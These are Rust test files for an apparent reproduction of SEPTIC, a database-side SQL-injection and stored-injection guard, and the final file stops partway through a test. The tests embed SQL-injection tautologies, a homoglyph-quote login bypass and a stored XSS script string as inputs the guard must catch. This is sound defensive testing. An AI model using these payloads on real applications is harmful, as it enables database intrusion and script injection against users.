//! End-to-end integration tests spanning every crate: browser-level
//! requests through WAF, application, DBMS and SEPTIC.

use std::sync::Arc;

use septic_repro::attacks::{corpus, run_corpus, summarize, train, ProtectionConfig};
use septic_repro::http::HttpRequest;
use septic_repro::septic::{DetectionConfig, Mode, Septic};
use septic_repro::waf::ModSecurity;
use septic_repro::webapp::deployment::Deployment;
use septic_repro::webapp::{PhpAddressBook, Refbase, WaspMon, WebApp, ZeroCms};

fn apps() -> Vec<Arc<dyn WebApp>> {
    vec![
        Arc::new(WaspMon::new()),
        Arc::new(PhpAddressBook::new()),
        Arc::new(Refbase::new()),
        Arc::new(ZeroCms::new()),
    ]
}

#[test]
fn all_apps_serve_their_workloads_under_full_protection() {
    for app in apps() {
        let name = app.name().to_string();
        let septic = Arc::new(Septic::new());
        let waf = Arc::new(ModSecurity::new());
        let d = Deployment::new(app.clone(), Some(waf), Some(septic.clone()))
            .unwrap_or_else(|e| panic!("{name}: install failed: {e}"));
        let _ = train(&d, &septic, Mode::PREVENTION);
        for request in app.workload() {
            let resp = d.request(&request);
            assert!(
                resp.response.is_success(),
                "{name}: {request} failed under full protection: {} {}",
                resp.response.status,
                resp.response.body
            );
        }
        assert_eq!(
            septic.counters().sqli_detected,
            0,
            "{name}: benign traffic flagged"
        );
        assert_eq!(
            septic.counters().stored_detected,
            0,
            "{name}: benign traffic flagged"
        );
    }
}

#[test]
fn full_stack_blocks_the_whole_corpus() {
    let results = run_corpus(&corpus(), ProtectionConfig::WAF_AND_SEPTIC);
    for result in &results {
        assert!(
            result.outcome.protected(),
            "{} got through the combined stack: {:?}",
            result.attack_id,
            result.outcome
        );
    }
    let s = summarize(&results);
    assert_eq!(s.succeeded, 0);
    // Both layers contribute: the WAF kills classic shapes upstream, SEPTIC
    // gets what slips past it.
    assert!(s.blocked_waf > 0 && s.blocked_septic > 0, "{s:?}");
}

#[test]
fn septic_yn_blocks_sqli_but_not_stored_injection() {
    // The Figure 5 "YN" configuration: SQLI detector only.
    let results = run_corpus(
        &corpus(),
        ProtectionConfig {
            waf: false,
            septic: Some(Mode::PREVENTION),
            detection: DetectionConfig::YN,
            structural_only: false,
        },
    );
    for r in &results {
        if r.class.is_sqli() {
            assert!(
                r.outcome.protected(),
                "{}: SQLI must be blocked in YN",
                r.attack_id
            );
        } else {
            assert!(
                !r.outcome.protected(),
                "{}: stored injection must pass in YN, got {:?}",
                r.attack_id,
                r.outcome
            );
        }
    }
}

#[test]
fn septic_nn_is_transparent() {
    let results = run_corpus(
        &corpus(),
        ProtectionConfig {
            waf: false,
            septic: Some(Mode::PREVENTION),
            detection: DetectionConfig::NN,
            structural_only: false,
        },
    );
    // With both detectors off, outcomes match the sanitization-only run.
    let baseline = run_corpus(&corpus(), ProtectionConfig::SANITIZATION_ONLY);
    for (a, b) in results.iter().zip(&baseline) {
        assert_eq!(a.outcome, b.outcome, "{}", a.attack_id);
    }
}

#[test]
fn detection_mode_is_observability_only() {
    let septic = Arc::new(Septic::new());
    let d = Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).unwrap();
    let _ = train(&d, &septic, Mode::DETECTION);
    // The mimicry login succeeds (nothing dropped)…
    let resp = d.request(
        &HttpRequest::post("/login")
            .param("user", "admin\u{02BC} AND 1=1-- ")
            .param("pass", "x"),
    );
    assert!(resp.response.is_success());
    // …but the event register shows the attack, with the logged-only action.
    assert_eq!(septic.counters().sqli_detected, 1);
    assert_eq!(septic.counters().queries_dropped, 0);
    let attacks = septic.logger().events_where(|k| {
        matches!(k, septic_repro::septic::EventKind::SqliDetected { action, .. }
            if *action == septic_repro::septic::AttackAction::LoggedOnly)
    });
    assert_eq!(attacks.len(), 1);
}

#[test]
fn guard_swap_at_runtime() {
    // Vanilla first, SEPTIC installed later — the "off-the-shelf defense"
    // claim: no application change, just the DBMS-side switch.
    let septic = Arc::new(Septic::new());
    let d = Deployment::new(Arc::new(WaspMon::new()), None, None).unwrap();
    let attack = HttpRequest::get("/history")
        .param("device", "zzz")
        .param("days", "0 OR 1=1");
    assert!(
        d.request(&attack).response.body.contains("800"),
        "vanilla: attack works"
    );

    d.server().install_guard(septic.clone());
    let _ = train(&d, &septic, Mode::PREVENTION);
    let resp = d.request(&attack);
    assert!(
        !resp.response.body.contains("800"),
        "with SEPTIC installed the same attack must fail"
    );
    assert!(resp.response.body.contains("blocked"));
}
