//! Property-based tests over the core invariants (DESIGN.md §5).

use proptest::prelude::*;

use septic_repro::dbms::value::numeric_prefix;
use septic_repro::dbms::Value;
use septic_repro::http::{url_decode, url_encode};
use septic_repro::septic::{detect_sqli, QueryModel, SqliOutcome};
use septic_repro::sql::{charset, items, parse, ItemStack};
use septic_repro::webapp::php::{addslashes, mysql_real_escape_string, stripslashes};

fn stack_of(sql: &str) -> ItemStack {
    items::lower_all(&parse(sql).expect("parse").statements)
}

/// Benign literal strings: anything without ASCII quotes/backslashes and
/// without homoglyphs (those are the attack space, exercised elsewhere).
fn benign_literal() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9 _.,;:!@#$%^&(){}\\[\\]<>=+*/?|~-]{0,24}"
}

proptest! {
    /// No false positives by construction: every query matches the model
    /// derived from itself, whatever the literals.
    #[test]
    fn qs_matches_own_model(s in benign_literal(), n in any::<i32>()) {
        let sql = format!("SELECT a, b FROM t WHERE a = '{s}' AND b = {n} ORDER BY a LIMIT 5");
        let qs = stack_of(&sql);
        let model = QueryModel::from_structure(&qs);
        prop_assert_eq!(detect_sqli(&qs, &model), SqliOutcome::Clean);
    }

    /// Literal values never influence the model: two queries differing only
    /// in data yield identical models and identical structures-for-matching.
    #[test]
    fn models_are_data_independent(
        s1 in benign_literal(), s2 in benign_literal(),
        n1 in any::<i32>(), n2 in any::<i32>(),
    ) {
        let a = stack_of(&format!("SELECT x FROM t WHERE a = '{s1}' AND b = {n1}"));
        let b = stack_of(&format!("SELECT x FROM t WHERE a = '{s2}' AND b = {n2}"));
        prop_assert_eq!(QueryModel::from_structure(&a), QueryModel::from_structure(&b));
        prop_assert_eq!(
            septic_repro::septic::id::internal_id(&a),
            septic_repro::septic::id::internal_id(&b)
        );
        // Cross-matching is clean too.
        prop_assert_eq!(detect_sqli(&a, &QueryModel::from_structure(&b)), SqliOutcome::Clean);
    }

    /// Escaped values survive the round trip through query text intact:
    /// building `'...'` with `mysql_real_escape_string` always parses back
    /// to a single string literal equal to the input, even with quotes and
    /// backslashes in it (ASCII sanitization is *correct*; the mismatch is
    /// elsewhere).
    #[test]
    fn escaping_round_trips_ascii(raw in "[ -~]{0,24}") {
        let escaped = mysql_real_escape_string(&raw);
        let sql = format!("SELECT * FROM t WHERE a = '{escaped}'");
        let parsed = parse(&sql).expect("escaped value must parse");
        let stack = items::lower_all(&parsed.statements);
        let literals: Vec<&str> = stack.string_data().collect();
        prop_assert_eq!(literals, vec![raw.as_str()]);
    }

    /// addslashes/stripslashes are inverse.
    #[test]
    fn slashes_round_trip(raw in "[ -~]{0,32}") {
        prop_assert_eq!(stripslashes(&addslashes(&raw)), raw);
    }

    /// Charset decoding is idempotent and length-preserving in characters.
    #[test]
    fn charset_decode_idempotent(raw in "\\PC{0,32}") {
        let once = charset::decode(&raw);
        let twice = charset::decode(&once.text);
        prop_assert_eq!(&once.text, &twice.text);
        prop_assert!(twice.substitutions.is_empty());
        prop_assert_eq!(raw.chars().count(), once.text.chars().count());
    }

    /// URL codec round-trips arbitrary unicode.
    #[test]
    fn url_codec_round_trips(raw in "\\PC{0,32}") {
        prop_assert_eq!(url_decode(&url_encode(&raw)), raw);
    }

    /// Numeric coercion is total and agrees with full parses on clean input.
    #[test]
    fn numeric_prefix_total(raw in "\\PC{0,16}") {
        let _ = numeric_prefix(&raw); // must not panic
    }

    #[test]
    fn numeric_prefix_agrees_on_integers(n in any::<i32>()) {
        prop_assert_eq!(numeric_prefix(&n.to_string()), f64::from(n));
    }

    /// Value comparisons are symmetric-consistent and NULL-propagating.
    #[test]
    fn value_comparison_consistency(a in any::<i64>(), s in benign_literal()) {
        let int_value = Value::Int(a);
        let str_value = Value::Str(s);
        let ab = int_value.sql_cmp(&str_value);
        let ba = str_value.sql_cmp(&int_value);
        prop_assert_eq!(ab.map(std::cmp::Ordering::reverse), ba);
        prop_assert_eq!(Value::Null.sql_cmp(&int_value), None);
    }

    /// Round-trip over the *entire* AST: seeded random statements spanning
    /// every statement kind and expression form (see
    /// `septic_conformance::astgen`) parse → print → parse to the same
    /// tree, and printing is a fixed point from then on.
    #[test]
    fn parser_print_fixed_point_full_ast(seed in any::<u64>()) {
        let sql = septic_conformance::astgen::random_statement_sql(seed);
        let first = parse(&sql).expect("generated statement parses");
        let printed: Vec<String> = first.statements.iter().map(ToString::to_string).collect();
        let second = parse(&printed.join("; ")).expect("printed statement reparses");
        prop_assert_eq!(&first.statements, &second.statements);
        let reprinted: Vec<String> = second.statements.iter().map(ToString::to_string).collect();
        prop_assert_eq!(printed, reprinted);
    }

    /// Round-trip: parse → print → parse is a fixed point on a family of
    /// generated SELECT queries.
    #[test]
    fn parser_print_fixed_point(
        s in benign_literal(),
        n in 0i64..1000,
        desc in any::<bool>(),
        limit in 1u64..50,
    ) {
        let sql = format!(
            "SELECT a, COUNT(*) FROM t WHERE a = '{s}' AND b > {n} \
             GROUP BY a HAVING COUNT(*) > 1 ORDER BY a{} LIMIT {limit}",
            if desc { " DESC" } else { "" },
        );
        let first = parse(&sql).expect("generated query parses");
        let printed = first.statements[0].to_string();
        let second = parse(&printed).expect("printed query reparses");
        prop_assert_eq!(&first.statements[0], &second.statements[0]);
        // And printing is a fixed point from then on.
        prop_assert_eq!(printed.clone(), second.statements[0].to_string());
    }

    /// Round-trip over the planner's construct surface: JOIN + GROUP
    /// BY/HAVING + an IN-subquery in one statement, with random literals,
    /// aliases and join kinds. These are the nodes the query planner
    /// lowers into join/aggregate/subquery stages, so their printed form
    /// must be a parse fixed point whatever the data.
    #[test]
    fn planner_constructs_round_trip(
        s in benign_literal(),
        n in 0i64..1000,
        left in any::<bool>(),
        negate in any::<bool>(),
    ) {
        let sql = format!(
            "SELECT t.a, COUNT(*) FROM t {}JOIN u ON (t.a = u.b) \
             WHERE (t.a {}IN (SELECT c FROM v WHERE (d = '{s}'))) AND (u.b > {n}) \
             GROUP BY t.a HAVING (COUNT(*) > 1) ORDER BY t.a LIMIT 7",
            if left { "LEFT " } else { "" },
            if negate { "NOT " } else { "" },
        );
        let first = parse(&sql).expect("construct query parses");
        let printed = first.statements[0].to_string();
        let second = parse(&printed).expect("printed construct query reparses");
        prop_assert_eq!(&first.statements[0], &second.statements[0]);
        prop_assert_eq!(printed.clone(), second.statements[0].to_string());
    }

    /// The parser never panics: arbitrary input yields Ok or Err, only.
    #[test]
    fn parser_total_on_arbitrary_input(raw in "\\PC{0,64}") {
        let _ = parse(&raw);
        let _ = parse(&charset::decode(&raw).text);
    }

    /// The lexer-sensitive corner: arbitrary bytes around quote/comment
    /// starters never panic either.
    #[test]
    fn parser_total_on_quote_heavy_input(raw in "['\"`#/*;-]{0,24}") {
        let _ = parse(&raw);
    }

    /// Any single-character flip inside the WHERE structure of a learned
    /// query either keeps it equivalent or is caught by the detector —
    /// appended tautologies always are.
    #[test]
    fn appended_conditions_always_detected(s in benign_literal(), n in any::<i32>()) {
        let learned = stack_of("SELECT a FROM t WHERE a = 'x'");
        let model = QueryModel::from_structure(&learned);
        let attacked = stack_of(&format!("SELECT a FROM t WHERE a = '{s}' OR {n} = {n}"));
        prop_assert!(detect_sqli(&attacked, &model).is_attack());
    }
}

/// Deterministic companion to `parser_print_fixed_point_full_ast`: a fixed
/// corpus covering **every** AST node kind, so roundtrip coverage never
/// depends on what the random seeds happen to generate.
#[test]
fn parser_print_fixed_point_on_ast_coverage_corpus() {
    for sql in septic_conformance::astgen::ast_coverage_corpus() {
        let first = parse(sql).expect(sql);
        let printed = first.statements[0].to_string();
        let second = parse(&printed).unwrap_or_else(|e| {
            panic!("printed form of `{sql}` failed to reparse: {e}\n  printed: {printed}")
        });
        assert_eq!(first.statements[0], second.statements[0], "{sql}");
        assert_eq!(printed, second.statements[0].to_string(), "{sql}");
    }
}

/// Printer parenthesization edge cases around the new planner nodes: a
/// subquery inside IN inside NOT (and friends) must print with enough
/// parentheses that the reparse rebuilds the same tree — dropping any of
/// them would rebind the NOT or spill the subselect into the outer query.
#[test]
fn printer_parenthesizes_subquery_inside_in_inside_not() {
    let corpus = [
        // The headline case: NOT applied to an IN whose list is a subselect.
        "SELECT a FROM t WHERE (NOT ((a IN (SELECT b FROM u WHERE (c = 'x')))))",
        // NOT IN with a subselect vs NOT around IN: distinct trees, both stable.
        "SELECT a FROM t WHERE (a NOT IN (SELECT b FROM u WHERE (c = 'x')))",
        // Doubly wrapped: NOT (x NOT IN (subselect)).
        "SELECT a FROM t WHERE (NOT ((a NOT IN (SELECT b FROM u))))",
        // NOT over EXISTS, and a scalar subselect under a comparison.
        "SELECT a FROM t WHERE (NOT (EXISTS (SELECT 1 FROM u)))",
        "SELECT a FROM t WHERE ((SELECT MAX(b) FROM u) > 5) AND (NOT ((a IN (1, 2))))",
        // The subselect itself carries a join and an aggregate.
        "SELECT a FROM t WHERE (a IN (SELECT u.b FROM u JOIN v ON (u.b = v.c) \
         GROUP BY u.b HAVING (COUNT(*) > 1)))",
    ];
    for sql in corpus {
        let first = parse(sql).expect(sql);
        let printed = first.statements[0].to_string();
        let second = parse(&printed).unwrap_or_else(|e| {
            panic!("printed form of `{sql}` failed to reparse: {e}\n  printed: {printed}")
        });
        assert_eq!(first.statements[0], second.statements[0], "{sql}");
        assert_eq!(printed, second.statements[0].to_string(), "{sql}");
    }
}

/// Folded-in regression from `tests/properties.proptest-regressions`
/// (`cc 7e609f2d…`, shrunk to `s1 = "", s2 = "", n1 = -1, n2 = 0`): empty
/// strings and a sign flip once produced distinct models. Named here so
/// the case runs whether or not the proptest implementation reads the
/// regressions file.
#[test]
fn regression_empty_strings_and_sign_flip_share_a_model() {
    let a = stack_of("SELECT x FROM t WHERE a = '' AND b = -1");
    let b = stack_of("SELECT x FROM t WHERE a = '' AND b = 0");
    assert_eq!(
        QueryModel::from_structure(&a),
        QueryModel::from_structure(&b)
    );
    assert_eq!(
        septic_repro::septic::id::internal_id(&a),
        septic_repro::septic::id::internal_id(&b)
    );
    assert_eq!(
        detect_sqli(&a, &QueryModel::from_structure(&b)),
        SqliOutcome::Clean
    );
}
