//! End-to-end observability tests: the `SHOW SEPTIC STATUS` /
//! `SHOW SEPTIC METRICS` admin statements, stage attribution on
//! deadline-exceeded events, and agreement between every counter surface
//! after real traffic.

use std::sync::Arc;
use std::time::Duration;

use septic_faults::SlowPlugin;
use septic_repro::dbms::{Server, Value};
use septic_repro::septic::{EventKind, Mode, Septic};
use septic_repro::telemetry::parse_prometheus;

/// Trained deployment with one blocked attack and one benign query on the
/// returned connection.
fn deployment_with_one_attack() -> (Arc<Server>, Arc<Septic>, septic_repro::dbms::Connection) {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")
        .expect("create");
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("training");
    septic.set_mode(Mode::PREVENTION);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ZZ11' AND creditCard = 4321")
        .expect("benign");
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0")
        .expect_err("attack must be blocked");
    (server, septic, conn)
}

fn status_value(rows: &[Vec<Value>], key: &str) -> Option<String> {
    rows.iter().find_map(|row| match row.as_slice() {
        [Value::Str(k), Value::Str(v)] if k == key => Some(v.clone()),
        _ => None,
    })
}

#[test]
fn show_septic_status_merges_guard_server_and_session_counters() {
    let (_server, _septic, conn) = deployment_with_one_attack();
    let out = conn
        .query("SHOW SEPTIC STATUS")
        .expect("admin statement answers");
    assert_eq!(out.columns, vec!["Variable_name", "Value"]);
    for (key, expected) in [
        ("guard_installed", "yes"),
        ("guard_name", "septic"),
        ("septic_attacks_total", "1"),
        ("septic_sqli_detected_total", "1"),
        ("septic_queries_dropped_total", "1"),
        ("dbms_guard_panics_total", "0"),
        ("session_queries_blocked", "1"),
    ] {
        assert_eq!(
            status_value(&out.rows, key).as_deref(),
            Some(expected),
            "row {key}"
        );
    }
    // Training (1) + benign (1) + the status statement itself count as ok.
    assert_eq!(
        status_value(&out.rows, "session_queries_ok").as_deref(),
        Some("3")
    );
    // Stage histograms are summarized as count/percentile rows.
    let inspections = status_value(&out.rows, "septic_stage_inspect_count")
        .expect("inspect stage row")
        .parse::<u64>()
        .expect("numeric");
    assert_eq!(inspections, 3, "training + benign + attack inspections");
    assert!(status_value(&out.rows, "septic_stage_inspect_p99_us").is_some());

    // The statement is case-insensitive, tolerates a trailing semicolon,
    // and bypasses the guard (it must not be learned or blocked).
    let again = conn.query("show septic status;").expect("lowercase form");
    assert_eq!(again.columns, vec!["Variable_name", "Value"]);
}

#[test]
fn show_septic_metrics_emits_parseable_prometheus_text() {
    let (server, _septic, conn) = deployment_with_one_attack();
    let out = conn
        .query("SHOW SEPTIC METRICS")
        .expect("metrics statement");
    assert_eq!(out.columns, vec!["metric"]);
    let text: String = out
        .rows
        .iter()
        .filter_map(|row| match row.as_slice() {
            [Value::Str(line)] => Some(format!("{line}\n")),
            _ => None,
        })
        .collect();
    let series = parse_prometheus(&text).expect("rows must form a valid export");
    assert_eq!(series.get("septic_attacks_total").copied(), Some(1.0));
    // The statement output is the same export the API serves.
    let direct = parse_prometheus(&server.prometheus()).expect("direct export");
    assert_eq!(
        direct.get("septic_attacks_total"),
        series.get("septic_attacks_total")
    );
}

#[test]
fn show_septic_metrics_exposes_per_construct_detection_counters() {
    // A blocked attack on a trained JOIN query must show up in the
    // construct-attribution counters, over the same admin surface the
    // aggregate counters use.
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), note VARCHAR(64))")
        .expect("create tickets");
    conn.execute("CREATE TABLE owners (name VARCHAR(16), region VARCHAR(64))")
        .expect("create owners");
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute(
        "SELECT t.note, o.region FROM tickets t JOIN owners o \
         ON t.reservID = o.name WHERE o.region = 'east'",
    )
    .expect("training join");
    septic.set_mode(Mode::PREVENTION);
    conn.execute(
        "SELECT t.note, o.region FROM tickets t JOIN owners o \
         ON t.reservID = o.name WHERE o.region = 'east' OR 1=1-- '",
    )
    .expect_err("join attack must be blocked");

    let out = conn
        .query("SHOW SEPTIC METRICS")
        .expect("metrics statement");
    let text: String = out
        .rows
        .iter()
        .filter_map(|row| match row.as_slice() {
            [Value::Str(line)] => Some(format!("{line}\n")),
            _ => None,
        })
        .collect();
    let series = parse_prometheus(&text).expect("valid export");
    assert_eq!(series.get("septic_join_attacks_total").copied(), Some(1.0));
    assert_eq!(
        series.get("septic_group_by_attacks_total").copied(),
        Some(0.0)
    );
    assert_eq!(
        series.get("septic_subquery_attacks_total").copied(),
        Some(0.0)
    );
    // And the status report prints the same attribution line.
    let status = conn.query("SHOW SEPTIC STATUS").expect("status");
    assert_eq!(
        status_value(&status.rows, "septic_join_attacks_total").as_deref(),
        Some("1")
    );
}

#[test]
fn deadline_exceeded_event_names_the_stage_that_blew_the_budget() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE notes (body VARCHAR(64))")
        .expect("create");
    let mut septic = Septic::new();
    septic.add_plugin(Box::new(SlowPlugin {
        delay: Duration::from_millis(40),
    }));
    let septic = Arc::new(septic);
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("INSERT INTO notes (body) VALUES ('hello')")
        .expect("training");
    septic.set_mode(Mode::PREVENTION);
    septic.set_detection_deadline(Some(Duration::from_millis(1)));

    // The stored-injection scan now sleeps 40ms against a 1ms budget;
    // prevention mode is fail-closed, so the uncleared query is dropped.
    conn.execute("INSERT INTO notes (body) VALUES ('world')")
        .expect_err("deadline miss under fail-closed must drop the query");

    assert_eq!(septic.counters().deadline_exceeded, 1);
    let events = septic
        .logger()
        .events_where(|k| matches!(k, EventKind::DeadlineExceeded { .. }));
    assert_eq!(events.len(), 1);
    let EventKind::DeadlineExceeded {
        elapsed_us, stages, ..
    } = &events[0].kind
    else {
        unreachable!("filtered above");
    };
    assert!(*elapsed_us >= 40_000, "elapsed {elapsed_us}us");
    assert!(
        stages.stored_us >= 40_000,
        "the slow plugin's time must land in the stored_scan span, got {stages}"
    );
    assert_eq!(stages.slowest(), "stored_scan");
    assert!(
        events[0].to_string().contains("slowest=stored_scan"),
        "event display must attribute the stage: {}",
        events[0]
    );
}

#[test]
fn every_attack_surface_agrees_after_mixed_traffic() {
    let (server, septic, conn) = deployment_with_one_attack();
    for i in 0..25 {
        conn.execute(&format!(
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND {i}={i}-- ' AND creditCard = 0"
        ))
        .expect_err("attack");
        conn.execute("SELECT * FROM tickets WHERE reservID = 'ok' AND creditCard = 7")
            .expect("benign");
    }
    let total = 26; // 1 from setup + 25 here
    assert_eq!(septic.counters().attacks_detected, total);
    assert_eq!(septic.logger().attack_count() as u64, total);
    assert_eq!(
        server.metrics_snapshot().counter("septic_attacks_total"),
        Some(total)
    );
    let series = parse_prometheus(&server.prometheus()).expect("export parses");
    assert_eq!(
        series.get("septic_attacks_total").copied(),
        Some(total as f64)
    );
    assert_eq!(conn.session_stats().queries_blocked, total);
}
