//! Restart-recovery suite: the durability tentpole, end to end.
//!
//! Three claims are proven here:
//!
//! 1. **Stored payloads survive a real process kill.** A child process —
//!    this very test binary re-executed with `SEPTIC_RECOVERY_DIR` set —
//!    opens a WAL-backed server on real files, commits a stored-injection
//!    payload, and dies with `abort()` (no destructors, no flush beyond
//!    the per-commit WAL appends). The parent then recovers the database
//!    from disk and a **fresh** SEPTIC deployment, which never saw the
//!    payload arrive, re-detects it via the post-recovery scan.
//! 2. **Recovery perturbs no verdict.** Every case of the checked-in
//!    golden matrix is re-run against a prevention deployment whose
//!    database was rebuilt from the write-ahead log alone; the verdicts
//!    must match the golden `septic_prevention` column cell for cell.
//! 3. **Transactions compose with durability.** `BEGIN`/`COMMIT`/
//!    `ROLLBACK` isolation holds across sessions, and exactly the
//!    committed state survives a restart.

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::Arc;

use septic_conformance::differential::{run_case_recovered, DetectionMatrix, MATRIX_SEED};
use septic_conformance::golden::golden_path;
use septic_conformance::grammar::generate_cases;
use septic_repro::dbms::{FsIo, MemIo, Server, ServerConfig, StorageIo, WalConfig};
use septic_repro::septic::{Mode, Septic};

const CHILD_ENV: &str = "SEPTIC_RECOVERY_DIR";
const KILL_TEST: &str = "stored_payload_survives_a_process_kill_and_is_redetected_from_disk";

fn open_durable_at(io: Arc<dyn StorageIo>) -> (Arc<Server>, septic_repro::dbms::RecoveryReport) {
    Server::open_durable(ServerConfig::default(), io, WalConfig::default())
        .expect("durable open succeeds")
}

/// Child half of the process-kill test: write the payload, then die hard.
fn child_workload(dir: &str) -> ! {
    let io = FsIo::open(dir).expect("child opens the shared directory");
    let (server, _) = open_durable_at(io);
    let conn = server.connect();
    conn.execute("CREATE TABLE comments (id INT, body VARCHAR(200))")
        .unwrap();
    conn.execute("INSERT INTO comments (id, body) VALUES (1, 'first post!')")
        .unwrap();
    // The second-order payload: harmless to SQL, scanned for at output
    // time by the stored-injection plugins.
    conn.execute("INSERT INTO comments (id, body) VALUES (2, '<script>alert(1)</script>')")
        .unwrap();
    // Every INSERT above was acknowledged, so each is in the WAL. Die
    // without running a single destructor.
    std::process::abort();
}

#[test]
fn stored_payload_survives_a_process_kill_and_is_redetected_from_disk() {
    if let Ok(dir) = std::env::var(CHILD_ENV) {
        child_workload(&dir);
    }

    let dir = std::env::temp_dir().join(format!("septic-recovery-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    // Re-execute this test binary as the crashing deployment.
    let status = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", KILL_TEST, "--test-threads=1"])
        .env(CHILD_ENV, &dir)
        .status()
        .expect("child process spawns");
    assert!(!status.success(), "the child must die by abort()");
    assert!(
        dir.join("wal.log").exists(),
        "the child's commits reached the write-ahead log"
    );

    // A fresh process — different SEPTIC deployment, empty models —
    // recovers the database from disk.
    let io = FsIo::open(&dir).unwrap();
    let (server, report) = open_durable_at(io);
    assert_eq!(report.replayed_records, 3, "CREATE + two INSERTs");
    assert_eq!(report.replay_errors, 0);
    assert_eq!(report.tables, 1);

    let rows = server
        .connect()
        .execute("SELECT body FROM comments")
        .unwrap();
    assert_eq!(rows.outputs[0].rows.len(), 2, "both comments recovered");

    // The fresh prevention deployment never saw the payload arrive; the
    // post-recovery scan feeds it every recovered string cell.
    let septic = Arc::new(Septic::new());
    septic.set_mode(Mode::PREVENTION);
    server.install_guard(septic.clone());
    assert_eq!(
        server.scan_recovered(),
        1,
        "exactly the stored-XSS payload is flagged"
    );
    let counters = septic.counters();
    assert_eq!(counters.recovered_flagged, 1);
    assert!(counters.recovered_values >= 2, "both bodies were scanned");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn recovered_database_reproduces_the_golden_prevention_column() {
    let golden = std::fs::read_to_string(golden_path()).expect("golden matrix is checked in");
    let matrix: DetectionMatrix = serde_json::from_str(&golden).expect("golden matrix parses");
    let expected: BTreeMap<&str, &str> = matrix
        .cases
        .iter()
        .map(|c| (c.id.as_str(), c.septic_prevention.as_str()))
        .collect();

    let cases = generate_cases(MATRIX_SEED);
    assert_eq!(cases.len(), expected.len(), "case set matches the golden");
    for case in &cases {
        let verdict = run_case_recovered(case, None);
        let want = expected
            .get(case.id.as_str())
            .unwrap_or_else(|| panic!("case {} missing from the golden matrix", case.id));
        assert_eq!(
            verdict.label(),
            *want,
            "recovery changed the verdict of {}",
            case.id
        );
    }
}

#[test]
fn exactly_the_committed_state_survives_a_restart() {
    let mem = MemIo::new();
    let (server, _) = open_durable_at(mem.clone() as Arc<dyn StorageIo>);
    let writer = server.connect();
    let reader = server.connect();
    writer
        .execute("CREATE TABLE accounts (id INT, balance INT)")
        .unwrap();
    writer
        .execute("INSERT INTO accounts (id, balance) VALUES (1, 100)")
        .unwrap();

    // An open transaction is invisible to other sessions…
    writer.execute("BEGIN").unwrap();
    assert!(writer.in_transaction());
    writer
        .execute("UPDATE accounts SET balance = 40 WHERE id = 1")
        .unwrap();
    writer
        .execute("INSERT INTO accounts (id, balance) VALUES (2, 60)")
        .unwrap();
    let seen = reader.execute("SELECT balance FROM accounts").unwrap();
    assert_eq!(
        seen.outputs[0].rows.len(),
        1,
        "uncommitted insert leaked across sessions"
    );
    // …until COMMIT publishes it atomically.
    writer.execute("COMMIT").unwrap();
    let seen = reader.execute("SELECT balance FROM accounts").unwrap();
    assert_eq!(seen.outputs[0].rows.len(), 2);

    // A rolled-back transaction leaves no trace, in memory or on disk.
    writer.execute("BEGIN").unwrap();
    writer
        .execute("INSERT INTO accounts (id, balance) VALUES (3, 1000)")
        .unwrap();
    writer.execute("ROLLBACK").unwrap();

    drop(writer);
    drop(reader);
    drop(server);

    let (revived, report) = open_durable_at(mem as Arc<dyn StorageIo>);
    assert_eq!(report.replay_errors, 0);
    let rows = revived
        .connect()
        .execute("SELECT id, balance FROM accounts")
        .unwrap();
    let mut recovered: Vec<String> = rows.outputs[0]
        .rows
        .iter()
        .map(|r| format!("{:?}", r))
        .collect();
    recovered.sort();
    assert_eq!(
        recovered,
        vec!["[Int(1), Int(40)]", "[Int(2), Int(60)]"],
        "recovered state is exactly the committed state"
    );
}
