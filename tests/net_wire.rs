//! Wire-level integration tests for the framed TCP front end: the SEPTIC
//! verdict must survive the trip over a socket, admission control must
//! shed load explicitly, and no client behavior — disconnects, slowloris,
//! oversized frames, garbage, handler panics — may take down the listener
//! or leak a worker.

use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

use septic_faults::socket::{self, SocketFaultOutcome};
use septic_repro::dbms::{Server, Value};
use septic_repro::net::{
    serve, ClientError, NetClient, NetServerConfig, NetServerHandle, QueryRequest,
};
use septic_repro::septic::{Mode, Septic};
use septic_repro::telemetry::parse_prometheus;

/// A trained, prevention-mode deployment behind a TCP front end.
fn wire_deployment(config: NetServerConfig) -> NetServerHandle {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")
        .unwrap();
    conn.execute("INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)")
        .unwrap();
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .unwrap();
    septic.set_mode(Mode::PREVENTION);
    serve(server, ("127.0.0.1", 0), config).expect("bind")
}

/// Polls until `cond` holds, failing the test after two seconds. Socket
/// teardown is asynchronous (the worker notices the close on its next
/// read), so gauge assertions need a grace window.
fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(2);
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn benign_and_attack_verdicts_travel_the_wire() {
    let handle = wire_deployment(NetServerConfig::default());
    let mut client = NetClient::connect(handle.addr()).expect("connect");

    // Benign query: the trained shape passes and the rows come back.
    let res = client
